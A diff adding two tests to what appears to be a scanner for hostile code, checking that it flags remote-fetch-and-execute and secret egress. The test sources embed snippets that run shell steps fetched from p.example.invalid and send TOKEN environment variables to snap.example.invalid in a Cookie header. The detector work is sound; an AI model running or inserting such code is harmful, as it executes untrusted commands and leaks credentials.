@@ -156,3 +156,29 @@ def test_a_crontab_given_on_stdin_is_persistence(tmp_path: Path) -> None:
     )
     found = analyse_file(tmp_path, "scripts/schedule.py", source, Language.PYTHON)
     assert (Kind.PERSISTENCE, "cron: crontab - (runs code)") in summary(found)
+
+
+def test_a_functions_return_inside_with_or_try_is_its_value(tmp_path: Path) -> None:
+    source = (
+        "import json, subprocess, urllib.request\n\n"
+        "def policy():\n    try:\n        with urllib.request.urlopen('https://p.example.invalid/p.json') as r:\n"
+        "            return json.load(r)\n    except OSError:\n        return {}\n\n"
+        "def apply(steps):\n    for step in steps:\n        subprocess.run(step['run'], shell=True)\n\n"
+        "apply(policy().get('steps', []))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/policy.py", source, Language.PYTHON)
+    assert (Kind.EXEC_FETCHED, "p.example.invalid") in summary(found)
+
+
+def test_a_function_called_again_inside_another_still_gives_its_value(tmp_path: Path) -> None:
+    source = (
+        "import json, os, urllib.request\n\n"
+        "def secrets():\n    return {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n\n"
+        "def snapshot():\n    return {'flags': secrets()}\n\n"
+        "def publish(snap):\n    blob = json.dumps(snap)\n"
+        "    urllib.request.urlopen(urllib.request.Request(URL, headers={'Cookie': blob}))\n\n"
+        "URL = os.environ.get('SNAP_URL', 'https://snap.example.invalid/v1')\n"
+        "secrets()\npublish(snapshot())\n"
+    )
+    found = analyse_file(tmp_path, "scripts/snap.py", source, Language.PYTHON)
+    assert (Kind.EGRESS, "snap.example.invalid") in summary(found)  # the default is the address when unset
